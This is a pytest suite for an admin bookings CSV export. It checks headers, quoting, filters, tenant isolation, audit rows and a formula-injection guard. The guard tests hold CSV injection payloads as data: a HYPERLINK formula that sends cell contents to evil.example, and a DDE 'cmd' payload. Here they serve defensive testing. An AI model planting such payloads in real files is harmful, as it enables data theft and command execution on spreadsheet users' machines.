"""GET /api/admin/bookings.csv: semicolon-separated RFC 4180, BOM, header row, formula
guard, same filters as the list, tenant isolation, an audit row per export."""
import csv
import io

import pytest

from admin_bookings_seed import Catalog, ids, listing
from conftest import psql

HEADER = ["id", "status", "status_reason", "start", "end", "local_start", "service_id",
          "service_name", "professional_id", "professional_name", "customer_name",
          "customer_email", "customer_phone", "charge_type", "charge_amount", "currency",
          "created_at", "accepted_terms_at", "notes"]
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def shop(merchant):
    return Catalog(merchant)


def export(merchant, query=""):
    r = merchant.api.get("/api/admin/bookings.csv" + query)
    assert r.status_code == 200, r.text
    return r


def cells(resp, separator):
    """Every record's cells, split the way a spreadsheet whose list separator is
    `separator` reads the file: on that character, honouring the quotes that open a cell
    (Excel in es-CO splits on ';', in en-US on ',')."""
    assert resp.content.startswith(BOM)
    text = resp.content[len(BOM):].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def rows(resp):
    """Records as dicts, parsed the way a spreadsheet reads RFC 4180."""
    records = cells(resp, ",")
    assert records[0] == HEADER
    return [dict(zip(HEADER, rec)) for rec in records[1:]]


def test_headers_bom_and_header_row(merchant, shop):
    shop.book("2031-05-01T15:00:00Z")
    r = export(merchant)
    assert r.headers["Content-Type"].startswith("text/csv")
    assert "charset=utf-8" in r.headers["Content-Type"]
    today = psql("SELECT to_char(now() AT TIME ZONE timezone, 'YYYYMMDD') FROM tenants "
                 "WHERE id = :'p1'", merchant.tenant_id)
    assert r.headers["Content-Disposition"] == 'attachment; filename="bookings-%s.csv"' % today
    assert r.headers["X-Total-Count"] == "1"
    assert r.content.startswith(BOM + b"id,status,status_reason,start,end,")
    # every record ends with CRLF, and there is no bare LF outside quoted fields
    assert r.content.endswith(b"\r\n")
    assert r.content.count(b"\r\n") == 2 and r.content.count(b"\n") == 2


def test_values_match_the_list(merchant, shop):
    booking = shop.book("2031-05-01T15:00:00Z", name="Ana Gómez", email="ana@example.com",
                        charge=("partial", 3000000, "COP"), notes="Primera vez")
    (row,) = rows(export(merchant))
    item = listing(merchant)["items"][0]
    assert row["id"] == booking == item["id"]
    assert row["start"] == item["start"] and row["end"] == item["end"]
    assert row["local_start"] == "2031-05-01T10:00:00-05:00"
    assert row["service_id"] == shop.service and row["service_name"] == item["service"]["name"]
    assert row["professional_name"] == item["professional"]["name"]
    assert row["customer_name"] == "Ana Gómez" and row["customer_email"] == "ana@example.com"
    assert (row["charge_type"], row["charge_amount"], row["currency"]) == ("partial", "3000000",
                                                                          "COP")
    assert row["created_at"] == item["created_at"] and row["notes"] == "Primera vez"
    assert row["status_reason"] == ""


def test_commas_quotes_and_newlines_are_quoted(merchant, shop):
    name = 'Pérez, Ana "La Jefa"'
    notes = 'Línea uno\r\nLínea dos, con coma\nY "comillas"'
    shop.book("2031-05-01T15:00:00Z", name=name, notes=notes)
    r = export(merchant)
    assert b'"P\xc3\xa9rez, Ana ""La Jefa"""' in r.content
    (row,) = rows(r)
    assert row["customer_name"] == name
    assert row["notes"] == notes


def test_formula_cells_are_guarded_and_phones_stay_readable(merchant, shop):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    shop.book("2031-05-01T15:00:00Z", name=evil, email="@evil.example", phone="+573001234567",
              notes="-2+3")
    shop.book("2031-05-02T15:00:00Z", name="+SUM(1,2)", notes="\tTAB")
    r = export(merchant)
    got = rows(r)
    by_name = {row["customer_email"]: row for row in got}
    first = by_name["'@evil.example"]
    assert first["customer_name"] == "'" + evil
    assert first["customer_phone"] == "'+573001234567"
    assert first["notes"] == "'-2+3"
    second = by_name["ana@example.com"]
    assert second["customer_name"] == "'+SUM(1,2)" and second["notes"] == "'\tTAB"
    # no cell of the file starts with a formula character
    for row in got:
        for value in row.values():
            assert not value[:1] in ("=", "+", "-", "@", "\t", "\r"), value
    # the JSON answer is untouched: the guard is a CSV matter
    assert {i["customer"]["name"] for i in listing(merchant)["items"]} == {evil, "+SUM(1,2)"}


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_cell_starts_a_formula_whichever_separator_splits_it(merchant, shop):
    """Excel in es-CO splits on ';' and in en-US on ','; a cell that hides either separator
    before a formula must not open a formula in either."""
    shop.book("2031-05-01T15:00:00Z", name="Ana;=cmd|' /C calc'!A0",
              email="x@example.com", notes="nota;@SUM(1;2);+1,-2,=3")
    shop.book("2031-05-02T15:00:00Z", name='Luis "x;=1"', notes="a,=HYPERLINK(\"http://e\")")
    r = export(merchant)
    for separator in (";", ","):
        records = cells(r, separator)
        assert len(records) == 3
        for record in records:
            for cell in record:
                assert not cell.startswith(FORMULA_STARTS), (separator, cell)
    # read with the export's own separator, the cells are the values, guarded
    by_email = {row["customer_email"]: row for row in rows(r)}
    first = by_email["x@example.com"]
    assert first["customer_name"] == "Ana;'=cmd|' /C calc'!A0"
    assert first["notes"] == "nota;'@SUM(1;2);'+1,'-2,'=3"
    assert by_email["ana@example.com"]["customer_name"] == 'Luis "x;\'=1"'


def test_every_export_is_in_the_audit_list(merchant, shop):
    shop.book("2031-05-01T15:00:00Z")
    shop.book("2031-05-02T15:00:00Z")
    export(merchant, "?status=paid&from=2031-05-01&q=ana")
    export(merchant)
    r = merchant.api.get("/api/admin/audit", params={"action": "booking.export"})
    assert r.status_code == 200, r.text
    items = r.json()["items"]
    assert [i["action"] for i in items] == ["booking.export", "booking.export"]
    newest, oldest = items
    for item in items:
        assert item["user"] == {"id": merchant.user_id, "email": merchant.email}
        assert item["entity_type"] == "booking" and item["entity_id"] is None
        assert item["ip"] == merchant.api.source_ip
    assert newest["changes"] == {"format": "csv", "rows": 2, "truncated": False, "filters": {}}
    assert oldest["changes"] == {"format": "csv", "rows": 2, "truncated": False,
                                 "filters": {"status": "paid", "from": "2031-05-01",
                                             "search": True}}
    # a refused export exports nothing and leaves no row
    assert merchant.api.get("/api/admin/bookings.csv?status=nope").status_code == 400
    assert merchant.api.get("/api/admin/audit",
                            params={"action": "booking.export"}).json()["total"] == 2


def test_same_filters_as_the_list_and_paging_ignored(merchant, shop):
    for day in range(1, 8):
        shop.book("2031-06-%02dT14:00:00Z" % day, status="paid" if day % 2 else "cancelled",
                  name="Cliente %d" % day)
    hold = shop.book("2031-06-09T14:00:00Z", status="held", charge=None, name="", email="",
                     phone="")
    everything = [row["id"] for row in rows(export(merchant, "?per_page=1&page=3"))]
    assert everything == ids(listing(merchant, per_page=100))
    assert len(everything) == 7 and hold not in everything
    query = "?status=paid&from=2031-06-02&to=2031-06-06&q=cliente"
    filtered = [row["id"] for row in rows(export(merchant, query))]
    assert filtered == ids(listing(merchant, status="paid", q="cliente",
                                   **{"from": "2031-06-02", "to": "2031-06-06"}))
    assert len(filtered) == 2
    assert [row["id"] for row in rows(export(merchant, "?status=held"))] == [hold]
    # page=0 is not even looked at by the export
    assert export(merchant, "?page=0&per_page=1000").status_code == 200


def test_more_rows_than_one_batch_stream_in_order(merchant, shop):
    psql("""
        INSERT INTO reservations (tenant_id, service_id, professional_id, status, starts_at,
            ends_at, blocked, customer_name, customer_email, customer_phone, charge_type,
            charge_amount, currency)
        SELECT :'p1', :'p2', :'p3', 'paid', s, s + interval '30 min',
               tstzrange(s, s + interval '30 min'), 'Cliente ' || g, 'c' || g || '@example.com',
               '+573001234567', 'total', 1000, 'COP'
        FROM generate_series(1, 1203) g,
             LATERAL (SELECT timestamptz '2031-01-01 00:00Z' + g * interval '1 hour' AS s) x
        """, merchant.tenant_id, shop.service, shop.professional)
    got = rows(export(merchant))
    assert len(got) == 1203 and len({row["id"] for row in got}) == 1203
    starts = [row["start"] for row in got]
    assert starts == sorted(starts, reverse=True)
    assert got[0]["customer_name"] == "Cliente 1203" and got[-1]["customer_name"] == "Cliente 1"


def test_invalid_parameters_are_json_errors(merchant):
    r = merchant.api.get("/api/admin/bookings.csv?status=nope")
    assert r.status_code == 400
    assert r.headers["Content-Type"].startswith("application/json")
    assert r.json()["error"]["code"] == "invalid_parameter"
    assert r.json()["error"]["parameter"] == "status"
    r = merchant.api.get("/api/admin/bookings.csv?service=x")
    assert r.status_code == 400 and r.json()["error"]["parameter"] == "service"


def test_other_tenants_export_has_only_the_header(merchant, other_merchant, shop):
    shop.book("2031-05-01T15:00:00Z", name="Ana Gómez")
    r = export(other_merchant)
    assert rows(r) == []
    assert r.headers["X-Total-Count"] == "0"
    assert "Ana" not in r.content.decode("utf-8")
    assert rows(export(other_merchant, "?service=" + shop.service)) == []


def test_export_needs_a_session(api):
    r = api.get("/api/admin/bookings.csv")
    assert r.status_code == 401 and r.json()["error"]["code"] == "unauthenticated"
